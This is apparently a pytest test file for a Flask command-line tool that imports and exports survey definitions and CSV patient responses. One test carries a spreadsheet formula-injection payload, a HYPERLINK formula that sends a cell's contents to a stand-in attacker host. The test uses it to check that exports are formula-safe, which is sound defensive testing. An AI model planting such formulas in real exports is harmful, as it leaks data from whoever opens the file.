"""`flask surveys import | export | import-responses | export-responses` (CONTRACTS.md)."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import func, select, true

from challenge.audit import AuditEvent
from challenge.db import session_scope
from challenge.safety.models import Flag
from surveys.models import Answer, Participation, Question, Response, Survey

CONTRACT_FILE = Path(__file__).parents[1] / "data" / "survey_contract.json"
CONTRACT = json.loads(CONTRACT_FILE.read_text())
SLUG = CONTRACT["slug"]
HEADER = ("external_id,role,dtype,exercise.importance,exercise.satisfaction,devices,stress,"
          "age,story")
TABLES = (Survey, Question, Response, Answer, Participation, Flag, AuditEvent)


def run(app, *args: str):
    return app.test_cli_runner().invoke(args=[str(a) for a in args])


def counts(app) -> dict[str, int]:
    """Rows in every table the survey commands may touch."""
    # An export leaves its own audit row (exports are audited); every other row counts.
    not_export = ~AuditEvent.action.like("%.exported")
    with app.app_context(), session_scope(app) as s:
        return {m.__tablename__: s.scalar(select(func.count()).select_from(m).where(
            not_export if m is AuditEvent else true())) for m in TABLES}


def errors(result) -> list[str]:
    return result.stderr.splitlines()


def write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def write_json(tmp_path: Path, doc: dict, name: str = "survey.json") -> Path:
    return write(tmp_path, name, json.dumps(doc, indent=2))


def csv_file(tmp_path: Path, *rows: str, header: str = HEADER,
             name: str = "responses.csv") -> Path:
    return write(tmp_path, name, "\n".join([header, *rows]) + "\n")


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export_rows(app, slug: str = SLUG) -> list[dict[str, str]]:
    result = run(app, "surveys", "export-responses", slug)
    assert result.exit_code == 0, result.stderr
    return parse(result.stdout)


@pytest.fixture
def survey(app, tmp_path):
    """The CONTRACTS example survey, with a second device option."""
    doc = copy.deepcopy(CONTRACT)
    doc["questions"][3]["options"].append({"value": "pump", "label": "Insulin pump"})
    result = run(app, "surveys", "import", CONTRACT_FILE)
    assert result.exit_code == 0, result.stderr
    path = write_json(tmp_path, doc, "survey-with-pump.json")
    result = run(app, "surveys", "import", path)
    assert result.exit_code == 0, result.stderr
    return doc


GOOD_ROWS = (
    "p-1,patient,t1,5,2,cgm;pump,4,34,Night-time lows scare me",
    "p-2,carer,,4,4,,2,61,",
    "p-3,patient,,3,1,cgm,,,",
)


# --- survey definitions -----------------------------------------------------------------

def test_import_contract_example_and_export_it(app):
    result = run(app, "surveys", "import", CONTRACT_FILE)
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr.strip() == f"created survey {SLUG} (7 questions, open)"
    exported = run(app, "surveys", "export", SLUG)
    assert exported.exit_code == 0 and exported.stderr == ""
    assert exported.stdout.startswith('{\n  "slug": ')  # indent 2
    doc = json.loads(exported.stdout)
    for key, value in CONTRACT.items():
        assert doc[key] == value, key


def test_importing_twice_changes_nothing(app, tmp_path):
    run(app, "surveys", "import", CONTRACT_FILE)
    before, exported = counts(app), run(app, "surveys", "export", SLUG).stdout
    again = run(app, "surveys", "import", CONTRACT_FILE)
    assert again.exit_code == 0
    assert again.stderr.strip() == f"survey {SLUG} unchanged"
    assert counts(app) == before
    assert run(app, "surveys", "export", SLUG).stdout == exported
    # the export itself imports back unchanged
    back = run(app, "surveys", "import", write(tmp_path, "export.json", exported))
    assert back.exit_code == 0 and "unchanged" in back.stderr
    assert counts(app) == before


def test_import_updates_an_existing_survey(app, tmp_path):
    run(app, "surveys", "import", CONTRACT_FILE)
    doc = copy.deepcopy(CONTRACT)
    doc["title"] = "Second round"
    result = run(app, "surveys", "import", write_json(tmp_path, doc))
    assert result.exit_code == 0
    assert result.stderr.strip() == f"updated survey {SLUG} (7 questions, open)"
    assert json.loads(run(app, "surveys", "export", SLUG).stdout)["title"] == "Second round"


def test_malformed_json_names_file_line_and_column(app, tmp_path):
    run(app, "surveys", "import", CONTRACT_FILE)
    before, exported = counts(app), run(app, "surveys", "export", SLUG).stdout
    path = write(tmp_path, "broken.json", '{\n  "slug": "daily-life-2027",\n  "title" "x"\n}\n')
    result = run(app, "surveys", "import", path)
    assert result.exit_code == 1 and result.stdout == ""
    assert errors(result) == [f"error: {path}: line 3, column 11: Expecting ':' delimiter"]
    nan = run(app, "surveys", "import", write(tmp_path, "nan.json", '{"min_cell_size": NaN}'))
    assert nan.exit_code == 1 and len(errors(nan)) == 1 and "NaN" in nan.stderr
    latin = run(app, "surveys", "import", write(tmp_path, "latin.json", '{"title": "é"}'
                                                 .encode("latin-1")))
    assert latin.exit_code == 1 and "not UTF-8" in latin.stderr
    assert counts(app) == before
    assert run(app, "surveys", "export", SLUG).stdout == exported


def test_invalid_survey_lists_every_problem_and_changes_nothing(app, tmp_path):
    run(app, "surveys", "import", CONTRACT_FILE)
    before, exported = counts(app), run(app, "surveys", "export", SLUG).stdout
    doc = copy.deepcopy(CONTRACT)
    doc["title"] = "Changed, but must not be saved"
    doc["colour"] = "blue"
    doc["min_cell_size"] = 1
    doc["questions"][4]["max"] = 50
    path = write_json(tmp_path, doc)
    result = run(app, "surveys", "import", path)
    assert result.exit_code == 1
    assert errors(result) == [
        f"error: {path}: colour: unknown key",
        f"error: {path}: min_cell_size: must be a whole number from 3 to 1000",
        f"error: {path}: questions[4]: a scale runs between whole numbers, min < max, "
        f"within 0..10",
    ]
    assert counts(app) == before
    assert run(app, "surveys", "export", SLUG).stdout == exported


def test_refused_update_of_answered_question_changes_nothing(app, survey, tmp_path):
    assert run(app, "surveys", "import-responses", SLUG,
               csv_file(tmp_path, *GOOD_ROWS)).exit_code == 0
    before, exported = counts(app), run(app, "surveys", "export", SLUG).stdout
    doc = copy.deepcopy(survey)
    doc["title"] = "Changed, but must not be saved"
    doc["questions"][4]["type"] = "number"
    path = write_json(tmp_path, doc)
    result = run(app, "surveys", "import", path)
    assert result.exit_code == 1
    assert errors(result) == [f"error: {path}: questions[4].type: 'stress' already has "
                              f"answers, so its type cannot change"]
    assert counts(app) == before
    assert run(app, "surveys", "export", SLUG).stdout == exported


def test_unknown_slug_and_missing_file(app, tmp_path):
    run(app, "surveys", "import", CONTRACT_FILE)
    before = counts(app)
    path = csv_file(tmp_path, GOOD_ROWS[0])
    for args in (["export", "nope"], ["export-responses", "nope"],
                 ["import-responses", "nope", path]):
        result = run(app, "surveys", *args)
        assert result.exit_code == 1, args
        assert errors(result) == ["error: no survey with slug 'nope'"]
        assert result.stdout == ""
    missing = run(app, "surveys", "import", tmp_path / "missing.json")
    assert missing.exit_code == 2  # a usage error
    assert counts(app) == before


# --- responses --------------------------------------------------------------------------

def test_import_responses_then_export_them(app, survey, tmp_path):
    result = run(app, "surveys", "import-responses", SLUG, csv_file(tmp_path, *GOOD_ROWS))
    assert result.exit_code == 0, result.stderr
    assert result.stderr.strip().endswith("3 added, 0 updated, 0 unchanged")
    rows = {row["external_id"]: row for row in export_rows(app)}
    assert rows["p-1"] == {"external_id": "p-1", "role": "patient", "dtype": "t1",
                           "exercise.importance": "5", "exercise.satisfaction": "2",
                           "devices": "cgm;pump", "stress": "4", "age": "34",
                           "story": "Night-time lows scare me"}
    assert rows["p-2"]["dtype"] == "" and rows["p-2"]["story"] == ""
    assert list(rows["p-3"].values()) == ["p-3", "patient", "", "3", "1", "cgm", "", "", ""]
    with app.app_context(), session_scope(app) as s:
        responses = s.scalars(select(Response)).all()
        assert {(r.status, r.source, r.user_id, r.consent_version) for r in responses} == {
            ("submitted", "import", None, 1)}
        assert all(r.submitted_on is not None for r in responses)
        # multi: one answer row per option
        devices = s.scalar(select(Question).where(Question.key == "devices"))
        assert sorted(s.scalars(select(Answer.choice).where(
            Answer.question_id == devices.id))) == ["cgm", "cgm", "pump"]
        assert s.scalar(select(AuditEvent.details).where(
            AuditEvent.action == "survey.responses_imported"))["added"] == 3


def test_export_imports_into_a_fresh_copy_with_the_same_answers(app, survey, tmp_path):
    rows = (*GOOD_ROWS,
            ",patient,t2,1,5,,5,-0,\"'-starts with a dash; and \"\"quotes\"\"\nand a new line\"",
            ",carer,,2,3,pump,1,12.5,=1+1")
    assert run(app, "surveys", "import-responses", SLUG, csv_file(tmp_path, *rows)
               ).exit_code == 0
    exported = run(app, "surveys", "export-responses", SLUG).stdout
    copy_doc = copy.deepcopy(survey)
    copy_doc["slug"] = "daily-life-copy"
    assert run(app, "surveys", "import", write_json(tmp_path, copy_doc)).exit_code == 0
    result = run(app, "surveys", "import-responses", "daily-life-copy",
                 write(tmp_path, "export.csv", exported))
    assert result.exit_code == 0, result.stderr
    assert "5 added" in result.stderr

    def key(row):
        return sorted(row.items())

    original, copied = export_rows(app), export_rows(app, "daily-life-copy")
    assert len(original) == 5
    assert sorted(map(key, copied)) == sorted(map(key, original))
    texts = {row["story"] for row in original}
    assert "'=1+1" in texts and "'-starts with a dash; and \"quotes\"\nand a new line" in texts


def test_a_bad_row_rejects_the_whole_file(app, survey, tmp_path):
    before = counts(app)
    path = csv_file(tmp_path, *GOOD_ROWS,
                    "p-4,patient,t1,7,2,cgm,4,34,",
                    "p-5,patient,t9,4,,insulin-pen,6,130,ok",
                    "p-6,,,1.5,x,,,-1,")
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert errors(result) == [
        f"error: {path}: row 5, column exercise.importance: importance must be a whole "
        f"number from 1 to 5",
        f"error: {path}: row 6, column dtype: 't9' is not one of the options",
        f"error: {path}: row 6, column exercise.satisfaction: please rate both how important "
        f"it is and how satisfied you are today",
        f"error: {path}: row 6, column devices: 'insulin-pen' is not one of the options",
        f"error: {path}: row 6, column stress: the answer must be a whole number from 1 to 5",
        f"error: {path}: row 6, column age: the answer must be between 0 and 120",
        f"error: {path}: row 7, column role: an answer is required",
        f"error: {path}: row 7, column exercise.importance: importance must be a whole "
        f"number from 1 to 5",
        f"error: {path}: row 7, column age: the answer must be between 0 and 120",
    ]
    assert counts(app) == before


def test_header_problems_are_reported_once_each(app, survey, tmp_path):
    header = "external_id,role,exercise.importance,colour,devices,devices,stress.importance,"
    path = csv_file(tmp_path, "x,patient,4,blue,cgm,cgm,,", header=header)
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 1
    assert errors(result) == [
        f"error: {path}: row 1, column colour: unknown column (not a question of survey "
        f"'daily-life-2027')",
        f"error: {path}: row 1, column devices: appears twice (columns 5 and 6)",
        f"error: {path}: row 1, column stress.importance: unknown column (not a question of "
        f"survey 'daily-life-2027')",
        f"error: {path}: row 1, column 8: the column has no name",
        f"error: {path}: row 1, column exercise.satisfaction: missing (a need question has "
        f"both exercise.importance and exercise.satisfaction)",
    ]
    no_role = csv_file(tmp_path, "4,4", header="exercise.importance,exercise.satisfaction",
                       name="no-role.csv")
    result = run(app, "surveys", "import-responses", SLUG, no_role)
    assert errors(result) == [f"error: {no_role}: row 1, column role: missing, and the "
                              f"question is required"]
    need_as_one = csv_file(tmp_path, "patient,4", header="role,exercise", name="need.csv")
    result = run(app, "surveys", "import-responses", SLUG, need_as_one)
    assert errors(result) == [f"error: {need_as_one}: row 1, column exercise: exercise is a "
                              f"need question; give two columns exercise.importance and "
                              f"exercise.satisfaction"]
    assert counts(app)["survey_response"] == 0


def test_malformed_csv_and_wrong_encoding_exit_1(app, survey, tmp_path):
    before = counts(app)
    broken = csv_file(tmp_path, 'p-1,patient,,3,3,,,,"unfinished', name="broken.csv")
    result = run(app, "surveys", "import-responses", SLUG, broken)
    assert result.exit_code == 1 and len(errors(result)) == 1
    assert str(broken) in result.stderr and "not valid CSV" in result.stderr
    stray = csv_file(tmp_path, 'p-1,patient,,3,3,,,,"quoted" then more', name="stray.csv")
    assert run(app, "surveys", "import-responses", SLUG, stray).exit_code == 1
    latin = write(tmp_path, "latin.csv", f"{HEADER}\np-1,patient,,3,3,,,,café\n"
                  .encode("latin-1"))
    result = run(app, "surveys", "import-responses", SLUG, latin)
    assert result.exit_code == 1 and "not UTF-8" in result.stderr
    empty = write(tmp_path, "empty.csv", "")
    result = run(app, "surveys", "import-responses", SLUG, empty)
    assert result.exit_code == 1 and "no header row" in result.stderr
    assert counts(app) == before
    # a byte-order mark (Excel's "CSV UTF-8") and CRLF line ends are fine
    bom = write(tmp_path, "bom.csv", f"\ufeff{HEADER}\r\np-1,patient,,3,3,,,,café\r\n"
                .encode())
    result = run(app, "surveys", "import-responses", SLUG, bom)
    assert result.exit_code == 0, result.stderr
    assert export_rows(app)[0]["story"] == "café"


def test_reimport_with_external_id_is_idempotent(app, survey, tmp_path):
    path = csv_file(tmp_path, *GOOD_ROWS)
    assert run(app, "surveys", "import-responses", SLUG, path).exit_code == 0
    before, exported = counts(app), run(app, "surveys", "export-responses", SLUG).stdout
    again = run(app, "surveys", "import-responses", SLUG, path)
    assert again.exit_code == 0
    assert again.stderr.strip().endswith("0 added, 0 updated, 3 unchanged")
    assert counts(app) == before
    assert run(app, "surveys", "export-responses", SLUG).stdout == exported
    # columns in another order, options in another order: still the same answers
    reordered = csv_file(tmp_path, "pump;cgm,p-1,patient,t1,5,2,4,34,Night-time lows scare me",
                         header="devices,external_id,role,dtype,exercise.importance,"
                                "exercise.satisfaction,stress,age,story", name="reordered.csv")
    result = run(app, "surveys", "import-responses", SLUG, reordered)
    assert result.stderr.strip().endswith("0 added, 0 updated, 1 unchanged")
    assert counts(app) == before
    # a changed row replaces that response's answers
    changed = csv_file(tmp_path, "p-1,patient,t2,5,3,cgm,4,34,", GOOD_ROWS[1],
                       name="changed.csv")
    result = run(app, "surveys", "import-responses", SLUG, changed)
    assert result.exit_code == 0
    assert result.stderr.strip().endswith("0 added, 1 updated, 1 unchanged")
    after = counts(app)
    assert after["survey_response"] == before["survey_response"]
    assert after["survey_answer"] == before["survey_answer"] - 2  # one device, no story
    rows = {row["external_id"]: row for row in export_rows(app)}
    assert (rows["p-1"]["dtype"], rows["p-1"]["exercise.satisfaction"], rows["p-1"]["devices"],
            rows["p-1"]["story"]) == ("t2", "3", "cgm", "")


def test_rows_without_external_id_are_always_added(app, survey, tmp_path):
    path = csv_file(tmp_path, "patient,4,4", header="role,exercise.importance,"
                                                    "exercise.satisfaction")
    assert run(app, "surveys", "import-responses", SLUG, path).exit_code == 0
    assert run(app, "surveys", "import-responses", SLUG, path).exit_code == 0
    assert counts(app)["survey_response"] == 2


def test_duplicate_external_id_within_the_file(app, survey, tmp_path):
    path = csv_file(tmp_path, GOOD_ROWS[0], GOOD_ROWS[1], GOOD_ROWS[0].replace("t1", "t2"))
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 1
    assert errors(result) == [f"error: {path}: row 4, column external_id: 'p-1' is also on "
                              f"row 2"]
    assert counts(app)["survey_response"] == 0


def test_answers_to_hidden_questions_are_rejected(app, survey, tmp_path):
    path = csv_file(tmp_path, "c-1,carer,t1,4,4,,,,", "c-2,carer,,4,4,,,,",
                    "c-3,,t2,4,4,,,,")
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 1
    assert errors(result) == [
        f"error: {path}: row 2, column dtype: the question is only shown when role is "
        f"'patient', so leave it empty",
        f"error: {path}: row 4, column role: an answer is required",
    ]
    assert counts(app)["survey_response"] == 0


def test_blank_rows_are_skipped_and_draft_surveys_accept_imports(app, tmp_path):
    doc = copy.deepcopy(CONTRACT)
    doc["status"] = "draft"
    assert run(app, "surveys", "import", write_json(tmp_path, doc)).exit_code == 0
    path = csv_file(tmp_path, GOOD_ROWS[0].replace(";pump", ""), "", ",,,,,,,,", GOOD_ROWS[2])
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 0, result.stderr
    assert "2 added" in result.stderr


def test_export_is_formula_safe(app, survey, tmp_path):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    path = csv_file(tmp_path, f'@ext,patient,,3,3,,,,"{payload.replace(chr(34), 2 * chr(34))}"',
                    'p-2,carer,,3,3,,,,+call me', "p-3,carer,,3,3,,,,-5 stars")
    assert run(app, "surveys", "import-responses", SLUG, path).exit_code == 0
    exported = run(app, "surveys", "export-responses", SLUG).stdout
    rows = {row["external_id"]: row for row in parse(exported)}
    assert rows["'@ext"]["story"] == "'" + payload
    assert rows["p-2"]["story"] == "'+call me"
    assert rows["p-3"]["story"] == "'-5 stars"
    with app.app_context(), session_scope(app) as s:  # stored as typed
        assert s.scalar(select(Response.external_id).where(
            Response.external_id.like("%ext"))) == "@ext"
        assert payload in s.scalars(select(Answer.text)).all()


def test_imported_text_is_screened_for_adverse_events(app, survey, tmp_path):
    text = "Since starting Ozempic I feel dizzy every morning"
    path = csv_file(tmp_path, f"s-1,patient,t2,5,1,,,,{text}", "s-2,carer,,4,4,,,,All good")
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert result.exit_code == 0, result.stderr
    assert "1 text flagged for the safety team" in result.stderr
    with app.app_context(), session_scope(app) as s:
        flag = s.scalar(select(Flag))
        response = s.scalar(select(Response).where(Response.external_id == "s-1"))
        assert flag.source == "survey-import"
        assert flag.source_ref == f"response:{response.id}/question:story"
        assert "ozempic" in flag.products and "dizzy" in flag.events
        assert flag.status == "new"
        flagged = s.scalar(select(Answer).where(Answer.text == text))
        assert flagged.safety_flag_id == flag.id
        assert s.scalar(select(Answer.safety_flag_id).where(Answer.text == "All good")) is None
    # re-importing the same file raises no second flag
    assert run(app, "surveys", "import-responses", SLUG, path).exit_code == 0
    assert counts(app)["safety_flag"] == 1


def test_a_multi_cell_of_separators_only_is_no_answer(app, survey, tmp_path):
    doc = copy.deepcopy(survey)
    doc["questions"][3]["required"] = True
    assert run(app, "surveys", "import", write_json(tmp_path, doc)).exit_code == 0
    path = csv_file(tmp_path, "m-1,carer,,3,3, ; ,,,", "m-2,carer,,3,3,;pump;,,,")
    result = run(app, "surveys", "import-responses", SLUG, path)
    assert errors(result) == [f"error: {path}: row 2, column devices: an answer is required"]


def test_export_loads_answers_in_one_query(app, survey, tmp_path):
    from sqlalchemy import event

    from surveys.responses_io import export_responses_csv

    def statements_for_export() -> int:
        seen: list[str] = []

        def count(_conn, _cursor, statement, *_args):
            seen.append(statement)

        engine = app.extensions["db_engine"]
        with app.app_context(), session_scope(app) as s:
            target = s.scalar(select(Survey).where(Survey.slug == SLUG))
            _ = target.questions
            event.listen(engine, "before_cursor_execute", count)
            try:
                export_responses_csv(s, target)
            finally:
                event.remove(engine, "before_cursor_execute", count)
        return len([q for q in seen if q.lstrip().upper().startswith("SELECT")])

    run(app, "surveys", "import-responses", SLUG, csv_file(tmp_path, *GOOD_ROWS))
    few = statements_for_export()
    more = [row.replace("p-", "q-") for row in GOOD_ROWS]
    run(app, "surveys", "import-responses", SLUG, csv_file(tmp_path, *more, name="more.csv"))
    assert statements_for_export() == few == 2  # the responses, then all their answers
